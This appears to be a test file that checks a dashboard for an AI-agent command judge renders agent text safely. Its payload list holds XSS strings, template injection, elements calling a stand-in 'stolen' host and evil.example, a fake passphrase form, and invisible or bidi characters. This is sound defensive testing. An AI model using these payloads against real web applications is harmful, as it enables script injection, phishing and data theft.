// Agents' text is never HTML: whatever a call, its session, its folder, a rule or the judge says, no script
// runs, no element appears, no request leaves, and no character that cannot be seen is shown as it is.
// usage: node markup_test.mjs BINARIES CACHE
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import test from 'node:test';

import { FakeJudge, userPolicy } from './fake_judge.mjs';
import { tools, Visit } from './visit.mjs';

const [binaries, cache] = process.argv.slice(2).map((argument) => path.resolve(argument));
const visit = new Visit(binaries, await tools(cache));

const elsewhere = 'http://127.0.0.1:9/stolen';
const payloads = [
  '<script>window.hit=1</script>',
  '"><img src=x onerror="window.hit=2">',
  `<img src="${elsewhere}"><link rel=stylesheet href="${elsewhere}"><iframe src="${elsewhere}"></iframe>`,
  '<svg onload=window.hit=3><animate onbegin=window.hit=4 attributeName=x dur=1s></svg>',
  '</title></pre></code></td><script>window.hit=5</script>',
  '<a href="javascript:window.hit=6" id=planted>click</a><base href=//evil.example>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.hit=7&gt;">',
  '${window.hit=8}{{constructor.constructor("window.hit=9")()}}#{window.hit=10}<%= window.hit=11 %>',
  '<form action=//evil.example><input name=passphrase><button autofocus onfocus=window.hit=12>Sign in</button></form>',
  'javascript:window.hit=13//',
  '&lt;script&gt;window.hit=14&lt;/script&gt;&#60;img src=x onerror=window.hit=15&#62;',
  '__proto__', 'constructor', 'toString',
  'evil\u202etxt.exe\u2066\u2069\u200b\u200f\u061c\ufeff\u00ad\u{e0041}\u2028\u0007\u001b[31m end',
  `<meta http-equiv=refresh content="0;url=${elsewhere}"><object data="${elsewhere}"></object><embed src="${elsewhere}">`,
];
const unseen = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]|[\u{e0000}-\u{e0fff}]/u;

const judge = new FakeJudge((question) => `DENY: ${payloads[question.length % payloads.length].replace(/[\u2028\u0007\u001b]/g, ' ')}`);
const rules = payloads.slice(0, 6).map((text, n) => ({ id: `repo.rule-${n}`, pattern: `forbidden-${n}`, reason: text, instead: text }));
visit.stage.write('judge.json', JSON.stringify({ version: 1, rules: { deny: rules } }));
visit.stage.writeHome('.config/gavel/judge.json', JSON.stringify(userPolicy(await judge.begin())));
await visit.begin();

const quoted = (text) => `'${text.replace(/'/g, "'\\''")}'`;
const clean = (text) => text.replace(/[\u0000\u0007\u001b]/g, '');
for (const [n, text] of payloads.entries()) {
  const folder = path.join(visit.stage.repo, `d${n}${text.replace(/[/\u0000]/g, '∕').slice(0, 60)}`);
  fs.mkdirSync(folder, { recursive: true });
  const common = { session: clean(text), cwd: folder };
  await visit.judge({ ...common, command: text });
  await visit.judge({ ...common, command: `echo ${quoted(text)}` });
  await visit.judge({ ...common, command: `sudo touch ${quoted(text)} # ${n}` });
  await visit.judge({ ...common, command: `echo forbidden-${n % 6} ${quoted(text)}` });
  await visit.judge({ ...common, tool: text, input: { [text]: text }, command: undefined });
  await visit.judge({ ...common, tool: 'Write', command: undefined, input: { file_path: path.join(folder, 'x'), content: text } });
}

const page = await visit.page();
const violations = [];
await page.exposeFunction('violated', (text) => violations.push(text));
await page.addInitScript(() => document.addEventListener('securitypolicyviolation', (event) => window.violated(`${event.violatedDirective} ${event.blockedURI}`)));
await visit.signIn(page);

// What the page itself never makes, and what it never leaves in a text.
const found = (pattern) => page.evaluate((source) => {
  const wrong = [];
  const known = /^(A|ARTICLE|BODY|BUTTON|CODE|DD|DETAILS|DIV|DL|DT|FIELDSET|FIGCAPTION|FIGURE|FORM|H1|H2|H3|HEADER|INPUT|LABEL|LEGEND|LI|MAIN|MARK|NAV|NOSCRIPT|OL|OPTION|P|PRE|SECTION|SELECT|SPAN|STRONG|SUMMARY|TABLE|TBODY|TD|TH|THEAD|TIME|TR|UL|svg|g|path|rect|circle|text|title)$/;
  for (const element of document.body.querySelectorAll('*')) {
    if (!known.test(element.tagName)) wrong.push(`<${element.tagName}>`);
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^srcdoc$/i.test(name)) wrong.push(`${name} of <${element.tagName}>`);
      if (/^(href|src|action|formaction|data)$/i.test(name) && !value.startsWith('#')) wrong.push(`${name}=${value}`);
      if (['aria-label', 'title'].includes(name) && new RegExp(source, 'u').test(value)) wrong.push(`unseen in ${name} of <${element.tagName}>: ${JSON.stringify(value)}`);
    }
  }
  if (document.querySelectorAll('head base, head meta[http-equiv]').length > 0) wrong.push('planted in the head');
  if (new RegExp(source, 'u').test(document.body.innerText)) wrong.push('an unseen character is shown as it is');
  if (window.hit !== undefined) wrong.push(`a script ran: ${window.hit}`);
  if (document.title !== document.title.replace(new RegExp(source, 'gu'), '')) wrong.push('an unseen character in the title');
  return wrong;
}, pattern.source);

// Their contents are made when they are opened.
async function folds() {
  await page.evaluate(() => { for (const fold of document.querySelectorAll('main details')) fold.open = true; });
  await page.waitForFunction(() => [...document.querySelectorAll('main details')].every((fold) => fold.childElementCount > 1));
}

test('in lists, with every filter that can hold a text', async () => {
  await visit.go(page, '#/decisions');
  assert.deepEqual(await found(unseen), []);
  await page.getByText('More filters').click();
  for (const text of payloads) {
    const words = encodeURIComponent(text.replace(/\u0000/g, ''));
    await page.evaluate((to) => { location.hash = to; }, `#/decisions?text=${words}&session=${words}&rule=${words}`);
    await visit.settled(page);
    assert.deepEqual(await found(unseen), [], text);
  }
});

test('on the page of every decision', async () => {
  await visit.go(page, '#/decisions');
  const all = await page.locator('table.rows a.open').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
  assert.ok(all.length >= 90, `${all.length} calls were recorded`);
  for (const address of all.filter((_, index) => index % 2 === 0)) {
    await visit.go(page, address);
    await folds();
    assert.deepEqual(await found(unseen), [], address);
  }
});

test('in sessions, charts, suggestions and addresses', async () => {
  for (const view of ['#/sessions?since=1h', '#/charts?since=1h', '#/suggestions']) {
    await visit.go(page, view);
    await folds();
    assert.deepEqual(await found(unseen), [], view);
  }
  await visit.go(page, '#/sessions');
  const sessions = await page.locator('table.sessions a').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
  assert.ok(sessions.length >= 10);
  for (const address of sessions) {
    await visit.go(page, address);
    assert.deepEqual(await found(unseen), [], address);
  }
  for (const text of payloads) {
    for (const name of ['decision', 'session', text]) {
      await page.evaluate((to) => { location.hash = to; }, `#/${encodeURIComponent(name)}/${encodeURIComponent(text)}`);
      await page.waitForFunction(() => document.querySelector('main h1'));
      assert.deepEqual(await found(unseen), [], `${name}: ${text}`);
    }
  }
});

test('as it arrives', async () => {
  await visit.go(page, '#/decisions');
  await page.locator('.live.on').waitFor();
  for (const text of payloads) await visit.judge({ command: `echo arrived ${quoted(text)}`, session: clean(text) });
  // New lines wait behind a button while somebody has scrolled or holds the focus in the list.
  await page.waitForFunction((count) => {
    [...document.querySelectorAll('button')].find((button) => !button.hidden && /^Show .* new$/.test(button.textContent))?.click();
    return [...document.querySelectorAll('a.open')].filter((link) => link.textContent.startsWith('echo arrived')).length === count;
  }, payloads.length);
  assert.deepEqual(await found(unseen), []);
});

test('the browser itself had nothing to forbid, and nothing left the machine', () => {
  assert.deepEqual(violations, []);
  assert.deepEqual([...new Set(visit.requests.map((address) => new URL(address).origin))], [visit.origin]);
  assert.deepEqual(page.troubles.filter((text) => !/status of (400|404)/.test(text)), []);
});

test.after(async () => {
  await visit.end();
  judge.end();
});
